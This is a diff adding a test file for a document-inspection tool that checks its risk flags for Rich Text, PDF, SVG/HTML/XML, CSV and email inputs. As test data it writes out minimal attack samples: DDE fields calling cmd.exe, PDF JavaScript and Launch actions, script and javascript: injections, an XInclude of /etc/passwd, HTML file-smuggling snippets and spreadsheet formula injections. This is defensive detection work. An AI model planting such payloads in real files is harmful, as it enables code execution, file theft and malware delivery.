@@ -1,0 +1,277 @@
+"""Flags of Rich Text, PDF, markup, tables and mail."""
+
+import base64
+import io
+
+import pikepdf
+import pytest
+
+from sluice_inspect.formats import epub
+from tests.inspection.facts import facts_of, flags_of
+from tests.inspection.formats.office_packages import package_of, parts_of
+from tests.inspection.formats.pdf_samples import pdf, stream, text
+
+PROGRAM = base64.b64encode(b"\x7fELF" + bytes(60)).decode()
+
+
+def rtf(inner: str) -> bytes:
+    return ("{\\rtf1\\ansi One line." + inner + "\\par}").encode("latin-1")
+
+
+@pytest.mark.parametrize(
+    "inner",
+    [
+        r"{\*\template http://a.example/t.dotm}",
+        r"{\*\template \\\\server\\t.dotm}",
+        r"{\*\template {\b h}ttp://a.example}",
+        r"{\*\template \'68ttp://a.example}",
+        r"{\*\template \u104?ttp://a.example}",
+    ],
+)
+def test_remote_template_of_rich_text(inner: str) -> None:
+    assert flags_of(rtf(inner), "a.rtf") == {"template.remote"}
+
+
+def test_local_template_of_rich_text_is_none() -> None:
+    assert flags_of(rtf(r"{\*\template C:\\Users\\a\\Normal.dotm}"), "a.rtf") == set()
+
+
+@pytest.mark.parametrize(
+    "field",
+    [r"DDEAUTO c:\\windows\\cmd.exe x", r"{\b DD}{\i EAUTO} cmd", r" \u68?DE cmd", r"D\'44E cmd", "DD\r\nE cmd"],
+)
+def test_dde_field_of_rich_text(field: str) -> None:
+    assert flags_of(rtf(r"{\field{\*\fldinst " + field + r"}{\fldrslt x}}"), "a.rtf") == {"dde"}
+
+
+def test_hyperlink_field_of_rich_text_has_no_flag() -> None:
+    field = r'{\field{\*\fldinst HYPERLINK "http://a.example/DDE"}{\fldrslt x}}'.replace("/DDE", "/")
+    assert flags_of(rtf(field), "a.rtf") == set()
+
+
+def test_linked_picture_of_rich_text() -> None:
+    field = r'{\field{\*\fldinst INCLUDEPICTURE "http://a.example/a.png"}{\fldrslt x}}'
+    assert flags_of(rtf(field), "a.rtf") == {"link.external"}
+
+
+def test_objects_of_rich_text() -> None:
+    package = "0105000002000000" + "08000000" + "5061636b61676500" + "00000000"
+    assert flags_of(rtf(r"{\object\objemb{\*\objdata " + package + "}}"), "a.rtf") == {"object.ole", "package"}
+    assert flags_of(rtf(r"{\object\objocx{\*\objdata 0105}}"), "a.rtf") == {"object.activex", "object.ole"}
+    assert flags_of(rtf(r"{\object\objautlink{\*\objclass X}}"), "a.rtf") == {"link.external"}
+
+
+# PDF
+
+
+def one_page(catalog: str = "", objects: dict[int, bytes | str] | None = None) -> bytes:
+    return pdf(text("word"), catalog=catalog, objects=objects)
+
+
+def test_plain_pdf_has_pages_and_no_flags() -> None:
+    facts = facts_of(pdf(text("a"), text("b")), "a.pdf")
+    assert facts == {"pages": 2, "attachments": 0, "encrypted": False, "flags_complete": True}
+    assert flags_of(one_page(), "a.pdf") == set()
+
+
+@pytest.mark.parametrize(
+    ("catalog", "flag"),
+    [
+        ("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "script.pdf"),
+        ("/OpenAction<</S/#4aavaScript/#4aS(x)>>", "script.pdf"),
+        ("/AA<</WC<</S/JavaScript/JS 100 0 R>>>>", "script.pdf"),
+        ("/OpenAction<</S/Launch/F(cmd.exe)>>", "launch.pdf"),
+        ("/OpenAction<</S/#4caunch/F(cmd.exe)>>", "launch.pdf"),
+    ],
+)
+def test_action_of_a_pdf_has_a_flag(catalog: str, flag: str) -> None:
+    assert flags_of(one_page(catalog, {100: stream(b"app.alert(1)")}), "a.pdf") == {flag}
+
+
+def test_action_in_a_packed_object_has_a_flag() -> None:
+    with pikepdf.open(io.BytesIO(one_page("/OpenAction<</S/JavaScript/JS(x)>>"))) as document:
+        out = io.BytesIO()
+        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    assert b"JavaScript" not in out.getvalue()
+    assert flags_of(out.getvalue(), "a.pdf") == {"script.pdf"}
+
+
+def test_words_in_the_text_of_a_pdf_have_no_flag() -> None:
+    assert flags_of(one_page("/Info<</Title(/JS /Launch /EF)>>"), "a.pdf") == set()
+
+
+@pytest.mark.parametrize(
+    ("name", "kind"), [("run.exe", "program"), ("a.js", "script"), ("a.txt", "document"), ("a.zip", "archive")]
+)
+def test_attachments_of_a_pdf_have_kinds(name: str, kind: str) -> None:
+    tree = "/Names<</EmbeddedFiles<</Names[(a) 100 0 R]>>>>"
+    objects: dict[int, bytes | str] = {
+        100: f"<</Type/Filespec/F({name})/EF<</F 101 0 R>>>>",
+        101: stream(b"content", "/Type/EmbeddedFile"),
+    }
+    assert flags_of(one_page(tree, objects), "a.pdf") == {f"attachment.{kind}"}
+    assert facts_of(one_page(tree, objects), "a.pdf")["attachments"] == 1
+
+
+def test_program_attached_under_an_honest_name_is_a_program() -> None:
+    tree = "/Names<</EmbeddedFiles<</Names[(a) 100 0 R]>>>>"
+    objects: dict[int, bytes | str] = {
+        100: "<</Type/Filespec/F(a.pdf)/EF<</F 101 0 R>>>>",
+        101: stream(b"\x7fELF" + bytes(60), "/Type/EmbeddedFile", packed=True),
+    }
+    assert flags_of(one_page(tree, objects), "a.pdf") == {"attachment.program"}
+
+
+def test_script_of_a_form_in_xml() -> None:
+    form = stream(b"<xdp><template><event><script>x</script></event></template></xdp>", packed=True)
+    assert flags_of(one_page("/AcroForm<</Fields[]/XFA 100 0 R>>", {100: form}), "a.pdf") == {"script.pdf"}
+
+
+def test_password_of_a_pdf() -> None:
+    for user, expected in (("secret", True), ("", False)):
+        with pikepdf.open(io.BytesIO(one_page())) as document:
+            out = io.BytesIO()
+            document.save(out, encryption=pikepdf.Encryption(owner="o", user=user, R=6))
+        assert facts_of(out.getvalue(), "a.pdf")["encrypted"] is expected
+
+
+def test_damaged_pdf_keeps_its_facts() -> None:
+    whole = one_page("/OpenAction<</S/JavaScript/JS(x)>>")
+    damaged = whole.replace(b"xref", b"xxef").replace(b"startxxef", b"startxref")
+    assert flags_of(damaged, "a.pdf") == {"script.pdf"}
+
+
+# Markup
+
+
+def svg(inner: str, attributes: str = "") -> bytes:
+    path = '<path d="M0 0L9 9" stroke="black"/>'
+    return f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}>{path}{inner}</svg>'.encode()
+
+
+def test_size_of_a_drawing_if_it_states_one() -> None:
+    facts = facts_of(svg("", 'width="90px" height="45"'), "a.svg")
+    assert (facts["width"], facts["height"], facts["pixels"]) == (90, 45, 4050)
+    assert "width" not in facts_of(svg("", 'width="100%" height="45"'), "a.svg")
+
+
+@pytest.mark.parametrize(
+    "inner",
+    [
+        "<script>x</script>",
+        '<s:script xmlns:s="http://www.w3.org/2000/svg">x</s:script>',
+        '<path d="M0 0" onfocusout="x()"/>',
+        '<a href=" java&#10;script:x()"><path d="M0 0"/></a>',
+        '<set attributeName="href" to="javascript:x()"/>',
+    ],
+)
+def test_script_of_a_drawing(inner: str) -> None:
+    assert flags_of(svg(inner), "a.svg") == {"script.svg"}
+
+
+def test_drawing_without_a_script() -> None:
+    assert flags_of(svg('<a href="https://a.example/"><text>script onload= javascript:</text></a>'), "a.svg") == set()
+
+
+def test_script_of_a_drawing_in_utf16() -> None:
+    assert flags_of(svg("<script>x</script>").decode().encode("utf-16"), "a.svg") == {"script.svg"}
+
+
+@pytest.mark.parametrize("year", ["2001", "2003"])
+def test_included_document(year: str) -> None:
+    text_ = f'<a><x:include xmlns:x="http://www.w3.org/{year}/XInclude" href="/etc/passwd"/></a>'
+    assert flags_of(text_.encode(), "a.xml") == {"xinclude"}
+    assert flags_of(text_.encode("utf-16"), "a.xml") == {"xinclude"}
+    assert flags_of(text_.replace("XInclude", "X&#73;nclude").encode(), "a.xml") == {"xinclude"}
+
+
+def test_xml_without_included_documents() -> None:
+    assert flags_of(b'<?xml version="1.0" encoding="UTF-8"?><a on="1">include script</a>', "a.xml") == set()
+
+
+@pytest.mark.parametrize(
+    "inner",
+    ["<script>x</script>", '<p onclick = "x()">a</p>', "<img src=x/onerror=x()>", '<a href=" javascript:x()">a</a>'],
+)
+def test_script_of_a_web_page(inner: str) -> None:
+    assert flags_of(f"<html><body>a{inner}</body></html>".encode(), "a.html") == {"script.html"}
+
+
+def test_web_page_without_a_script() -> None:
+    page = b"<html><body><p>The salmon = fish; conclusion = 1</p><a href='https://a.example/'>a</a></body></html>"
+    assert flags_of(page, "a.html") == set()
+
+
+def test_script_in_a_book() -> None:
+    book = epub.FORMAT.sample()
+    assert (flags_of(book, "a.epub"), facts_of(book, "a.epub")["flags_complete"]) == (set(), True)
+    name, page = next((name, page) for name, page in parts_of(book).items() if name.endswith(".xhtml"))
+    scripted = page.replace(b"</body>", b"<script>x</script></body>")
+    assert flags_of(package_of(parts_of(book) | {name: scripted}), "a.epub") == {"script.html"}
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()",
+        "navigator.msSaveOrOpenBlob(new Blob([x]),'a.zip')",
+        "var u=new Uint8Array(9);f(u);link.setAttribute('download','a.exe')",
+    ],
+)
+def test_smuggled_file(script: str) -> None:
+    page = f"<html><body><script>{script}</script></body></html>"
+    assert flags_of(page.encode(), "a.html") == {"script.html", "smuggling.html"}
+    assert "smuggling.html" in flags_of(page.encode("utf-16"), "a.html")
+
+
+def test_one_half_of_smuggling_is_none() -> None:
+    page = b"<html><body><script>var u = new Uint8Array(9)</script></body></html>"
+    assert flags_of(page, "a.html") == {"script.html"}
+
+
+# Tables
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ['=HYPERLINK("http://a.example?x="&A1,"a")', "=SUM(A1:A9)", "+SUM(1)", "-2+CALL(1)", "@SUM(A1)", '"=EXEC(1)"',
+     "\t=EXEC(1)",
+     "\uff1dEXEC(1)", "=1+WEBSERVICE(A1)"],
+)  # fmt: skip
+def test_formula_of_a_table(cell: str) -> None:
+    assert flags_of(f"id;name\n1;{cell}\n".encode(), "a.csv") == {"formula.csv"}
+    assert flags_of(f"id;name\r\n{cell};1\r\n".encode("utf-16"), "a.csv") == {"formula.csv"}
+
+
+@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "+cmd|'/c calc'!A0", "@x|'y'!z", "-2+3+cmd|' /C calc'!D2"])
+def test_dde_formula_of_a_table(cell: str) -> None:
+    assert flags_of(f"id,name\n1,{cell}\n".encode(), "a.csv") == {"formula.csv", "dde"}
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["-5", "+49 (0)30 12345", "@name", "=", "- see the notes (below)", "a=f(x)", "-", "a@b.example (work)", "+1",
+     "=A1+B2", "1|2!3"],
+)  # fmt: skip
+def test_honest_cell_is_no_formula(cell: str) -> None:
+    assert flags_of(f"id,name\n1,{cell}\n".encode(), "a.csv") == set()
+
+
+# Mail
+
+
+def test_attachments_of_a_mail_have_kinds() -> None:
+    mail = (
+        "From: a@a.example\r\nSubject: A\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+        "--b\r\nContent-Type: text/plain\r\n\r\nText.\r\n"
+        '--b\r\nContent-Type: application/x; name="a.js"\r\nContent-Disposition: attachment\r\n\r\nx\r\n'
+        "--b\r\nContent-Type: application/x\r\nContent-Disposition: attachment; filename=photo.jpg\r\n"
+        f"Content-Transfer-Encoding: base64\r\n\r\n{PROGRAM}\r\n--b--\r\n"
+    )
+    assert flags_of(mail.encode(), "a.eml") == {"attachment.script", "attachment.program"}
+    assert facts_of(mail.encode(), "a.eml")["attachments"] == 2
+
+
+def test_mail_without_attachments() -> None:
+    facts = facts_of(b"From: a@a.example\r\nSubject: A\r\n\r\nText.\r\n", "a.eml")
+    assert (facts["attachments"], facts["flags_complete"]) == (0, True)
